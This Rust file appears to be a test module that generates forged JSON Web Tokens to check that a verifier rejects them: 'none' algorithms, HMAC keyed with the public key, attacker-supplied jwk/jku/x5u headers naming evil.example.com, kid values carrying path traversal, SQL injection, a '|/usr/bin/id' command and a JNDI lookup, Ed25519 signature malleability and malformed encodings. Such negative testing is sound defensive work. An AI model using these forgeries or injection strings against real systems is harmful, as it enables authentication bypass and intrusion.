//! What anybody can make of a token that they have seen, and of the published key.

use aws_lc_rs::hmac;
use aws_lc_rs::signature::{Ed25519KeyPair, KeyPair};
use base64::Engine;
use base64::engine::general_purpose::{STANDARD_NO_PAD, URL_SAFE, URL_SAFE_NO_PAD};
use latchkey_tests::attack::forgery::{Kind, part, sign_with_hmac};
use serde_json::json;

use super::{Attack, Genuine, MISSING};

/// Without the key: what anybody can make of a token that they have seen, and of the published key.
pub(super) fn without_the_key(genuine: &Genuine) -> Vec<Attack> {
    let [header, claims, signature] = genuine.parts();
    let public = genuine.forger.public_key();
    let mut all: Vec<Attack> = Vec::new();
    let mut add = |name: &str, token: String| all.push((name.to_owned(), token));

    // The algorithm "none" (RFC 8725 section 2.1), in all spellings, with and without a signature.
    for none in ["none", "None", "NONE", "nOnE", "", " none", "none\u{0}"] {
        let header = part(genuine.header_with(&[("alg", json!(none))]));
        add(
            &format!("alg {none:?}, none"),
            format!("{header}.{claims}."),
        );
        add(
            &format!("alg {none:?}, old signature"),
            format!("{header}.{claims}.{signature}"),
        );
        let bare = part(format!(r#"{{"alg":"{none}"}}"#).replace('\0', "\\u0000"));
        add(&format!("alg {none:?}, bare"), format!("{bare}.{claims}."));
    }
    // The published key as the secret of an HMAC, in every form in which people hold it.
    let pem = format!(
        "-----BEGIN PUBLIC KEY-----\n{}\n-----END PUBLIC KEY-----\n",
        base64::engine::general_purpose::STANDARD.encode(
            [
                &[
                    0x30, 0x2a, 0x30, 0x05, 0x06, 0x03, 0x2b, 0x65, 0x70, 0x03, 0x21, 0x00
                ],
                public
            ]
            .concat()
        )
    );
    let x = URL_SAFE_NO_PAD.encode(public);
    let keys: [&[u8]; 6] = [public, x.as_bytes(), pem.as_bytes(), &[], &[0], &[0; 32]];
    for (algorithm, name) in [
        (hmac::HMAC_SHA256, "HS256"),
        (hmac::HMAC_SHA384, "HS384"),
        (hmac::HMAC_SHA512, "HS512"),
    ] {
        for (place, key) in keys.iter().enumerate() {
            let changed = genuine.header_with(&[("alg", json!(name))]);
            let token = sign_with_hmac(algorithm, key, &changed, genuine.claims.to_string());
            add(&format!("{name} with a known key, {place}"), token);
        }
    }
    // Another algorithm under the same signature.
    for name in [
        "HS256", "HS384", "HS512", "RS256", "RS384", "RS512", "PS256", "PS384", "PS512", "ES256",
        "ES384", "ES512", "ES256K", "EdDSA", "Ed25519", "Ed448", "eddsa", "hs256", "HS1", "dir",
    ] {
        if genuine.header["alg"] != name {
            let header = part(genuine.header_with(&[("alg", json!(name))]));
            add(
                &format!("alg {name}"),
                format!("{header}.{claims}.{signature}"),
            );
            add(&format!("alg {name}, empty"), format!("{header}.{claims}."));
        }
    }
    for value in [json!(1), json!(["EdDSA"]), json!({}), json!(true)] {
        let header = part(genuine.header_with(&[("alg", value.clone())]));
        add(
            &format!("alg {value}"),
            format!("{header}.{claims}.{signature}"),
        );
    }
    // A key of the attacker's, brought along in the header (RFC 8725 section 3.10).
    let own = Ed25519KeyPair::from_seed_unchecked(&[7; 32]).unwrap();
    let own_x = part(own.public_key());
    let jwk = json!({"kty": "OKP", "crv": "Ed25519", "x": own_x, "kid": genuine.header["kid"]});
    let oct = json!({"kty": "oct", "k": part([7; 32]), "kid": genuine.header["kid"]});
    let algorithm = genuine.header["alg"].clone();
    for (name, changes) in [
        ("jwk", vec![("jwk", jwk.clone())]),
        ("jwk, no kid", vec![("jwk", jwk), ("kid", MISSING)]),
        ("jwk, oct", vec![("jwk", oct)]),
        (
            "jku",
            vec![("jku", json!("https://evil.example.com/jwks.json"))],
        ),
        (
            "jku of ours",
            vec![("jku", json!("https://id.example.com@evil.example.com/"))],
        ),
        (
            "x5u",
            vec![("x5u", json!("https://evil.example.com/chain.pem"))],
        ),
        ("x5c", vec![("x5c", json!(["MIIBszCCAVmgAwIBAgIUAAAA"]))]),
        ("x5t", vec![("x5t", json!("AAAAAAAAAAAAAAAAAAAAAAAAAAA"))]),
        ("own key", vec![("alg", algorithm)]),
    ] {
        let message = format!("{}.{claims}", part(genuine.header_with(&changes)));
        add(
            name,
            format!("{message}.{}", part(own.sign(message.as_bytes()))),
        );
        let tag = hmac::sign(
            &hmac::Key::new(hmac::HMAC_SHA256, &[7; 32]),
            message.as_bytes(),
        );
        add(&format!("{name}, HMAC"), format!("{message}.{}", part(tag)));
        add(
            &format!("{name}, old signature"),
            format!("{message}.{signature}"),
        );
    }
    // A kid that leads somewhere else, with the key that would be found there.
    let long = "k".repeat(3_000);
    for kid in [
        "other",
        "../../../../../../dev/null",
        "/dev/null",
        "file:///dev/null",
        "' UNION SELECT 'AA' --",
        "|/usr/bin/id",
        "${jndi:ldap://evil.example.com}",
        "",
        "0",
        "\u{0}",
        "null",
        &long,
    ] {
        let changed = genuine.header_with(&[("kid", json!(kid))]);
        for key in [&b""[..], b"\0", b"AA"] {
            let token =
                sign_with_hmac(hmac::HMAC_SHA256, key, &changed, genuine.claims.to_string());
            add(&format!("kid {kid:.20}"), token);
        }
        add(
            &format!("kid {kid:.20}, old signature"),
            format!("{}.{claims}.{signature}", part(&changed)),
        );
    }
    // Signatures.
    let bytes = URL_SAFE_NO_PAD.decode(signature).unwrap();
    let mut add_signature = |name: &str, bytes: &[u8]| {
        all.push((
            name.to_owned(),
            format!("{header}.{claims}.{}", part(bytes)),
        ));
    };
    for length in [0, 1, 16, bytes.len() / 2, bytes.len() - 1] {
        add_signature(&format!("signature cut to {length}"), &bytes[..length]);
    }
    add_signature("signature and a byte", &[&bytes[..], &[0]].concat());
    add_signature("signature twice", &[&bytes[..], &bytes[..]].concat());
    for fill in [0, 1, 0xff] {
        add_signature(&format!("signature of {fill}"), &vec![fill; bytes.len()]);
    }
    add_signature("signature of the other kind", &{
        let other = genuine.other.rsplit('.').next().unwrap();
        URL_SAFE_NO_PAD.decode(other).unwrap()
    });
    if genuine.kind == Kind::Access {
        // S + L is the same number modulo the order of the group: a second signature, unless S < L is checked
        // (RFC 8032 section 5.1.7).
        add_signature("S + L", &plus_the_order(&bytes));
        // R and A of small order, for which S = 0 holds whatever the message.
        for point in SMALL_ORDER {
            let r = hex(point);
            add_signature("small order R, S = 0", &[&r[..], &[0; 32]].concat());
        }
    }
    let mut add = |name: &str, token: String| all.push((name.to_owned(), token));
    // The encoding: one spelling for each token (RFC 7515 section 2, RFC 4648 section 3.5).
    for (place, name) in ["header", "claims", "signature"].iter().enumerate() {
        let with_part = |text: &str| {
            let mut parts = genuine.parts();
            parts[place] = text;
            parts.join(".")
        };
        let text = genuine.parts()[place];
        let bytes = URL_SAFE_NO_PAD.decode(text).unwrap();
        add(&format!("{name} empty"), with_part(""));
        add(&format!("{name} and ="), with_part(&format!("{text}=")));
        add(&format!("{name} and =="), with_part(&format!("{text}==")));
        let padded = URL_SAFE.encode(&bytes);
        if padded != text {
            add(&format!("{name} padded"), with_part(&padded));
        }
        let standard = STANDARD_NO_PAD.encode(&bytes);
        if standard != text {
            add(&format!("{name} with + and /"), with_part(&standard));
        }
        if !bytes.len().is_multiple_of(3) {
            add(
                &format!("{name} with other last bits"),
                with_part(&other_last_bits(text)),
            );
        }
        for stray in [" ", "\t", "+", "/", "%3D", "\u{e9}", "\u{202e}", "\u{ff21}"] {
            add(
                &format!("{name} and {stray:?}"),
                with_part(&format!("{text}{stray}")),
            );
            let inside = format!("{}{stray}{}", &text[..4], &text[4..]);
            add(&format!("{stray:?} in the {name}"), with_part(&inside));
        }
    }
    // The form.
    add("two parts", format!("{header}.{claims}"));
    add("one part", header.to_owned());
    add("no part", String::new());
    add(
        "a part more",
        format!("{header}.{claims}.{signature}.{signature}"),
    );
    add(
        "an empty part first",
        format!(".{header}.{claims}.{signature}"),
    );
    add(
        "an empty part last",
        format!("{header}.{claims}.{signature}."),
    );
    add(
        "a JWE",
        format!("{header}.{claims}.{signature}.{claims}.{signature}"),
    );
    add("two tokens", format!("{}{}", genuine.token, genuine.token));
    add(
        "two tokens, a comma",
        format!("{},{}", genuine.token, genuine.token),
    );
    add("quoted", format!("\"{}\"", genuine.token));
    add("many dots", ".".repeat(3_000));
    add("too many dots", ".".repeat(15_000));
    add(
        "long",
        format!("{header}.{}.{signature}", "A".repeat(4_000)),
    );
    add(
        "over 16 KiB",
        format!("{header}.{}.{signature}", "A".repeat(20_000)),
    );
    add(
        "the first half",
        genuine.token[..genuine.token.len() / 2].to_owned(),
    );
    add(
        "JSON serialisation, flattened",
        json!({"payload": claims, "protected": header, "signature": signature}).to_string(),
    );
    add(
        "JSON serialisation, general",
        json!({"payload": claims, "signatures": [{"protected": header, "signature": signature}]})
            .to_string(),
    );
    add("detached", format!("{header}..{signature}"));
    add("nested", {
        let token = part(&genuine.token);
        format!("{header}.{token}.{signature}")
    });
    add("the other kind", genuine.other.clone());
    all
}

/// The order of Ed25519's group, little endian (RFC 8032 section 5.1).
const ORDER: &str = "edd3f55c1a631258d69cf7a2def9de1400000000000000000000000000000010";

/// Points whose multiples are few: the neutral element in both spellings, and those of order 2, 4 and 8.
const SMALL_ORDER: [&str; 6] = [
    "0100000000000000000000000000000000000000000000000000000000000000",
    "0100000000000000000000000000000000000000000000000000000000000080",
    "ecffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff7f",
    "0000000000000000000000000000000000000000000000000000000000000000",
    "26e8958fc2b227b045c3f489f2ef98f0d5dfac05d3c63339b13802886d53fc05",
    "c7176a703d4dd84fba3c0b760d10670f2a2053fa2c39ccc64ec7fd7792ac037a",
];

fn hex(text: &str) -> Vec<u8> {
    let byte = |place| u8::from_str_radix(&text[place..place + 2], 16).unwrap();
    (0..text.len()).step_by(2).map(byte).collect()
}

fn plus_the_order(signature: &[u8]) -> Vec<u8> {
    let (mut sum, mut carry) = (signature.to_vec(), 0);
    for (byte, more) in sum[32..].iter_mut().zip(hex(ORDER)) {
        let total = u16::from(*byte) + u16::from(more) + carry;
        *byte = total.to_le_bytes()[0];
        carry = total >> 8;
    }
    sum
}

/// The same bytes in base64url, but for the bits of the last character that mean nothing.
fn other_last_bits(text: &str) -> String {
    const ALPHABET: &str = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    let (rest, last) = text.split_at(text.len() - 1);
    let place = ALPHABET.find(last).unwrap();
    format!("{rest}{}", &ALPHABET[place ^ 1..=(place ^ 1)])
}
